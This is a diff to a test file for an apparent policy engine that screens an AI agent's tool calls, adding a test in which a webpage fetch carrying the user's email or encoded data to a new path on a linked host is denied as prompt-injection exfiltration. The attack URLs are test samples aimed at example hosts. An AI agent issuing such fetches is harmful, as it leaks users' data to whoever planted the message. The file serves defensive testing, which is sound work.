@@ -34,11 +34,16 @@ tools:
   send_money:
     exfiltrating: true
     sink_params: [recipient]
+  get_webpage:
+    exfiltrating: true
+    sink_kind: fetch
+    sink_params: [url]
 """
 TOOLS = [
     "send_email",
     "add_user_to_channel",
     "send_money",
+    "get_webpage",
     "read_inbox",
     "get_email",
     "read_file",
@@ -350,3 +355,28 @@ def test_attack_twin_orders_inside_the_titled_document_are_denied(prompt: str, t
 )
 def test_a_prompt_that_titles_no_document_titles_nothing(prompt: str) -> None:
     assert described.titles(described.titled_keys(prompt)) == frozenset()
+
+
+LINK = "https://docs.spec-host.example/spec/v3"
+
+
+@pytest.mark.parametrize("prompt", ["Open the link in Bob's message.", *DESCRIPTIONS])
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"{LINK}?u=priya@lumen.example",  # the user's address added to the link
+        "https://docs.spec-host.example/upload?d=c2VjcmV0",  # a new path on the link's host
+    ],
+)
+def test_attack_twin_a_new_path_on_the_host_of_the_described_message_is_denied_as_before(
+    prompt: str, url: str
+) -> None:
+    """Benign: the link in Bob's message, as written, is followed. Attack: the same host with the user's
+    data in a new path or query: anyone can write a message from "Bob", so his message does not vouch
+    for every path of a host it links (denied, as from any message)."""
+    eng = _engine(prompt + " I am priya@lumen.example.")
+    _read(eng, "read_inbox", _inbox({"sender": "Bob"}, f"The spec: {LINK}", "Lunch?"))
+    v = _call(eng, "get_webpage", {"url": LINK})
+    assert v.verdict == "allow", v.reason
+    v = _call(eng, "get_webpage", {"url": url})
+    assert (v.verdict, v.rule) == ("deny", "fetch.tainted_host_new_path"), v.reason
